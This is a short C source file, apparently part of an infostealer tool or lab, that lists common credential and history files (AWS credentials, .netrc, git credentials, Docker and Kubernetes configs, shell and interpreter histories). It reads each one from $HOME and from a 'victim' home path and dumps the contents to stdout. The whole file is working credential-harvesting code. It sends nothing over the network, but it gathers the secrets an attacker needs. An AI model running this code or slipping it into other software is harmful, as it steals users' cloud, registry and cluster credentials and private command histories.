/* dotfile-sweep (C): the list every infostealer carries, by $HOME and by
 * the victim's home path. */
#include <stdio.h>
#include <stdlib.h>

#include "targets.h"

static const char *const files[] = {
    ".aws/credentials",    ".netrc",          ".git-credentials",
    ".docker/config.json", ".kube/config",    ".bash_history",
    ".Rhistory",           ".python_history",
};

static void sweep(const char *home)
{
	char path[1200], buf[4096];
	size_t n;
	FILE *f;

	for (size_t i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
		snprintf(path, sizeof(path), "%s/%s", home, files[i]);
		if (!(f = fopen(path, "r")))
			continue;
		printf("== %s\n", path);
		while ((n = fread(buf, 1, sizeof(buf), f)) > 0)
			fwrite(buf, 1, n, stdout);
		fclose(f);
	}
}

int main(int argc, char **argv)
{
	const char *home = getenv("HOME");

	targets_load(argc, argv);
	if (home)
		sweep(home);
	sweep(target("T_HOME"));
	return 0;
}
